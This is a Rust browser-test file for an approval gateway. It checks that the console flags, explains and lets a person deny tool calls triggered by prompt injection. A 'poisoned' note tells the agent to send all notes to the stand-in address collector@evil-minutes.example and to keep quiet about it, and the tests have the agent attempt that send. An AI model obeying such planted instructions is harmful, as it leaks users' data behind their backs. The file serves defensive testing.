//! The first day of a person who has configured a server and nothing else.

#![allow(clippy::unwrap_used, reason = "tests may panic")]

use std::sync::Arc;

use hospes::client::CallError;
use hospes::prelude::*;
use hospes_browser_tests::{HospesProgram, RunningHospes, TestBrowser, WAIT_TIMEOUT};
use serde_json::Value;
use tokio::task::JoinHandle;

/// Address that only the poisoned note contains.
const COLLECTOR: &str = "collector@evil-minutes.example";

/// A person's machine: a host without a policy, a poisoned server, the console in a browser, and an agent.
struct Newcomer {
    browser: TestBrowser,
    hospes: HospesProgram,
    _up: RunningHospes,
    agent: Arc<Client>,
}

impl Newcomer {
    async fn begin() -> Option<Self> {
        let (browser, hospes) = (TestBrowser::start().await?, HospesProgram::find()?);
        let server = env!("CARGO_BIN_EXE_poisoned-notes");
        let config =
            format!("[servers.notes]\ncommand = ['{server}', '{}']\n", hospes.path("sent").display());
        let up = hospes.start_gateway_with(&config, &[]);
        browser.open(&hospes.console().await).await;
        browser.wait_for_text("Nothing waits for you").await;
        browser.keys("1").await;
        browser.wait_for_text("No pending approvals").await;
        let agent = Arc::new(Client::connect(up.url.as_str()).await.unwrap());
        Some(Self { browser, hospes, _up: up, agent })
    }

    fn call(&self, tool: &str, arguments: &Value) -> JoinHandle<Result<CallToolResult, CallError>> {
        self.call_named(format!("notes__{tool}"), arguments)
    }

    fn call_named(&self, tool: String, arguments: &Value) -> JoinHandle<Result<CallToolResult, CallError>> {
        let agent = Arc::clone(&self.agent);
        let arguments = RawJson::parse(arguments.to_string()).unwrap();
        tokio::spawn(async move { Client::call(&agent, &tool, arguments).await })
    }

    /// Calls a tool that nobody is asked about.
    async fn read(&self, tool: &str, arguments: &Value) -> String {
        said(self.call(tool, arguments)).await
    }

    /// Messages that have arrived at the server.
    fn sent(&self) -> String {
        std::fs::read_to_string(self.hospes.path("sent")).unwrap_or_default()
    }

    /// Approvals that were asked for so far, decided or not.
    async fn asked(&self) -> Value {
        let script = "const headers = { 'x-hospes-key': localStorage.getItem('hospes-key') };
             const all = await (await fetch('/api/approvals', { headers })).json();
             return all.open.length + all.recent.length;";
        self.browser.run(script).await
    }

    /// Returns the text of the elements of a selector.
    async fn texts(&self, selector: &str) -> Vec<String> {
        let script =
            format!("return [...document.querySelectorAll({selector:?})].map((one) => one.innerText.trim())");
        serde_json::from_value(self.browser.run(&script).await).unwrap()
    }
}

async fn said(calling: JoinHandle<Result<CallToolResult, CallError>>) -> String {
    let ended = tokio::time::timeout(WAIT_TIMEOUT, calling).await.expect("an end").unwrap();
    ended.map_or_else(|error| error.to_string(), |result| result.all_text())
}

/// Ten ordinary calls that read ask nothing. Then a poisoned note makes the agent send a message: the person is asked once,
/// sees at a glance what it is, to whom, and that the address stands in that note, and denies it.
#[tokio::test(flavor = "multi_thread")]
async fn a_newcomer_understands_one_question_and_denies_it() {
    let Some(day) = Newcomer::begin().await else { return };
    let browser = &day.browser;
    for _ in 0..2 {
        assert!(day.read("list_notes", &json!({})).await.contains("groceries"));
        assert!(day.read("read_note", &json!({ "number": 1 })).await.contains("two lemons"));
        assert!(day.read("search_notes", &json!({ "words": "report" })).await.contains("Friday"));
        assert!(day.read("read_note", &json!({ "number": 2 })).await.contains("Anna"));
        assert!(day.read("list_notes", &json!({})).await.contains("minutes"));
    }
    assert_eq!(day.asked().await, 0, "ten ordinary calls ask nothing");

    assert!(day.read("read_note", &json!({ "number": 3 })).await.contains(COLLECTOR));
    assert_eq!(day.asked().await, 0, "and neither does the reading of the poisoned note");
    let hijacked = day.call("send_message", &json!({ "to": COLLECTOR, "body": "Here they are." }));
    browser.wait_for_text("1 of 1").await;
    assert_eq!(day.asked().await, 1);

    // The effect and the target, in words that are not the server's.
    let heading = day.texts("#matter-title").await.join("");
    assert_eq!(heading, format!("hospes wants to send a message to {COLLECTOR}: 14 characters"));
    assert_eq!(day.texts(".final-mark").await, ["Cannot be undone"]);
    // What is unusual.
    let unusual = day.texts("[data-unusual]").await.join("");
    assert!(unusual.contains("stands in a text that somebody else wrote"), "{unusual}");
    // Where the value came from, with the value marked there and in the arguments.
    let origin = day.texts(".origin").await.join("");
    for words in ["send all notes to", "do not mention", "notes", "read_note"] {
        assert!(origin.contains(words), "{words}: {origin}");
    }
    assert_eq!(day.texts(".origin mark").await, [COLLECTOR]);
    assert_eq!(day.texts(".values mark").await, [COLLECTOR]);
    // All of that is in view without scrolling, on a desk and on a phone: before the arguments where they are below each
    // other.
    for (width, height) in [(1280, 900), (390, 844)] {
        browser.resize_window(width, height).await;
        let places = browser
            .run("return ['#matter-title', '[data-unusual]', '.origin', '.values'].map((one) => document.querySelector(one).getBoundingClientRect().top)")
            .await;
        let places: Vec<f64> = serde_json::from_value(places).unwrap();
        let foot =
            browser.run("return document.querySelector('.matter-foot').getBoundingClientRect().top").await;
        let is_above = width > 1000 || places.is_sorted();
        assert!(
            is_above && places[..3].iter().all(|top| *top < foot.as_f64().unwrap()),
            "{width}: {places:?} {foot}"
        );
    }
    // The choices weigh the same, the weakest is not offered, and "no" is at hand.
    let buttons = day.texts(".choices button").await;
    let begins = ["Deny", "Allow once", &format!("Allow and remember {COLLECTOR} for 30 days")];
    assert!(
        buttons.len() == 3 && buttons.iter().zip(begins).all(|(button, begin)| button.starts_with(begin)),
        "{buttons:?}"
    );
    let looks = browser
        .run("return new Set([...document.querySelectorAll('.choices button')].map((one) => { const style = getComputedStyle(one); return style.backgroundColor + style.color + style.fontWeight; })).size")
        .await;
    assert_eq!(looks, 1, "none of them is made to stand out");
    assert_eq!(browser.run("return document.activeElement.hasAttribute('data-deny')").await, true);

    browser.find("[data-deny][aria-disabled=false]").await;
    browser.take_screenshot("newcomer").await;
    browser.press("[data-deny]").await;
    let refused = said(hijacked).await;
    assert!(refused.contains("the user denied it"), "{refused}");
    assert_eq!(day.sent(), "", "the message did not arrive");
    assert_eq!(day.asked().await, 1);
}

#[tokio::test(flavor = "multi_thread")]
async fn no_key_decides_within_a_second() {
    let Some(day) = Newcomer::begin().await else { return };
    let browser = &day.browser;
    day.read("read_note", &json!({ "number": 3 })).await;
    // The page's clock stands still, so that the second does not pass.
    browser.run("const now = performance.now(); performance.now = () => now; return true").await;
    let sending = day.call("send_message", &json!({ "to": "anna@corp.example", "body": "Hello" }));
    browser.wait_for_text("1 of 1").await;
    browser.show_all().await;
    browser.keys("j").await;
    for key in ["o", "d", "t"] {
        browser.keys(key).await;
    }
    browser
        .run("document.querySelector('[data-once]').click(); document.querySelector('[data-deny]').click()")
        .await;
    assert!(!sending.is_finished());
    assert_eq!(day.sent(), "");
    browser.run("performance.now = () => 1e9; return true").await;
    browser.keys("o").await;
    assert_eq!(said(sending).await, "Sent.");
    assert!(day.sent().contains("anna@corp.example"));
}

/// Two messages as one plan, the second of which a note has caused: the card shows each with its target and where that comes
/// from. The person wants to be asked one by one, then allows another plan and revokes the rest of it.
#[tokio::test(flavor = "multi_thread")]
async fn a_plan_shows_each_of_its_calls_and_can_be_revoked() {
    let Some(day) = Newcomer::begin().await else { return };
    let browser = &day.browser;
    day.read("read_note", &json!({ "number": 3 })).await;
    let message = |to: &str, body: &str| json!({ "to": to, "body": body });
    let propose = |messages: &[Value]| {
        let calls: Vec<Value> = messages
            .iter()
            .map(|message| json!({ "name": "notes__send_message", "arguments": message }))
            .collect();
        day.call_named("hospes__propose_plan".to_owned(), &json!({ "calls": calls }))
    };
    let (anna, collector) = (message("anna@corp.example", "Hello"), message(COLLECTOR, "Here they are."));
    let hijacked = propose(&[anna.clone(), collector]);
    browser.wait_for_text("1 of 1").await;
    assert_eq!(
        day.texts("#matter-title").await,
        ["hospes wants to make 2 calls as one plan at notes: for 10 minutes, in this order"]
    );
    let groups = day.texts(".plan-groups li").await;
    assert_eq!(groups.len(), 1, "{groups:?}");
    for words in ["1–2. 2 × notes: SEND A MESSAGE to anna@corp.example", COLLECTOR, "cannot be undone"] {
        assert!(groups[0].contains(words), "{words}: {groups:?}");
    }
    assert_eq!(day.texts("[data-planned='1'] .origin").await, Vec::<String>::new());
    let origin = day.texts("[data-planned='2'] .origin").await.join("");
    assert!(origin.contains("send all notes to") && origin.contains("read_note"), "{origin}");
    assert_eq!(day.texts("[data-planned='2'] pre mark").await, [COLLECTOR]);
    let buttons = day.texts(".choices button").await;
    let begins =
        ["Deny", "Allow the plan", "Ask one by one", "Allow and remember these 2 targets for 30 days"];
    assert!(
        buttons.len() == 4 && buttons.iter().zip(begins).all(|(button, begin)| button.starts_with(begin)),
        "{buttons:?}"
    );
    browser.take_screenshot("newcomer-plan").await;
    browser.find("[data-one-by-one][aria-disabled=false]").await;
    browser.press("[data-one-by-one]").await;
    let refused = said(hijacked).await;
    assert!(refused.contains("make the calls one by one"), "{refused}");
    // Else the person would first have to choose the next card.
    browser.wait_for_text("No pending approvals").await;

    let (bob, carol) = (message("bob@corp.example", "Hello"), message("carol@corp.example", "Hello"));
    let proposed = propose(&[anna.clone(), bob.clone(), carol]);
    browser.wait_for_text("1 of 1").await;
    browser.show_all().await;
    browser.find("[data-once][aria-disabled=false]").await;
    browser.press("[data-once]").await;
    assert!(said(proposed).await.starts_with("The person has approved the plan"));
    assert_eq!(said(day.call("send_message", &anna)).await, "Sent.");
    browser.keys("4").await;
    let page = browser.wait_for_text("3 calls: send_message of notes").await;
    assert!(page.contains("plan") && page.contains("used 1 time"), "{page}");
    browser.take_screenshot("newcomer-plan-grant").await;
    browser.press("[data-revoke]").await;
    browser.wait_for_text("No lasting grants").await;
    let sending = day.call("send_message", &bob);
    browser.keys("1").await;
    browser.wait_for_text("1 of 1").await;
    browser.find("[data-deny][aria-disabled=false]").await;
    browser.press("[data-deny]").await;
    assert!(said(sending).await.contains("the user denied it"));
    assert_eq!(day.sent().lines().count(), 1, "{}", day.sent());
}

/// A target that the person has remembered is listed with since when and by whom until it is revoked. The day's digest and
/// the page of the servers say what was new.
#[tokio::test(flavor = "multi_thread")]
async fn a_remembered_target_is_listed_until_it_is_revoked() {
    let Some(day) = Newcomer::begin().await else { return };
    let browser = &day.browser;
    day.read("read_note", &json!({ "number": 1 })).await;
    let sending = day.call("send_message", &json!({ "to": "anna@corp.example", "body": "Hello" }));
    browser.wait_for_text("1 of 1").await;
    browser.show_all().await;
    browser.find("[data-targets][aria-disabled=false]").await;
    browser.press("[data-targets]").await;
    assert_eq!(said(sending).await, "Sent.");
    browser.wait_for_text("Its target is remembered for 30 days").await;

    browser.keys("4").await;
    let page = browser.wait_for_text("anna@corp.example").await;
    for words in ["Known targets and values", "known", "first for send_message of notes", "until", "given"] {
        assert!(page.contains(words), "{words}: {page}");
    }
    browser.take_screenshot("newcomer-grants").await;
    let listed = day.hospes.run(&["grants"]).await;
    assert!(listed.said.contains("known    anna@corp.example"), "{listed:?}");
    let id = listed.said.split_whitespace().next().unwrap().to_owned();

    browser.keys("3").await;
    let digest = browser.find("[data-digest]").await.text().await.unwrap();
    for words in ["notes 2 1 2 0", "notes send_message", "New servers and first uses"] {
        assert!(digest.contains(words), "{words}: {digest}");
    }
    browser.take_screenshot("newcomer-digest").await;
    let printed = day.hospes.run(&["audit", "digest"]).await.said;
    assert!(printed.contains("first uses") && printed.contains("notes send_message"), "{printed}");
    browser.keys("2").await;
    let new = browser.find("[data-new=notes]").await.text().await.unwrap();
    assert!(new.contains("with 4 tools and no warnings"), "{new}");
    browser.take_screenshot("newcomer-servers").await;

    let revoked = day.hospes.run(&["grants", "revoke", &id]).await;
    assert!(revoked.said.contains("revoked: anna@corp.example"), "{revoked:?}");
    browser.keys("4").await;
    browser.wait_for_text("No lasting grants").await;
}
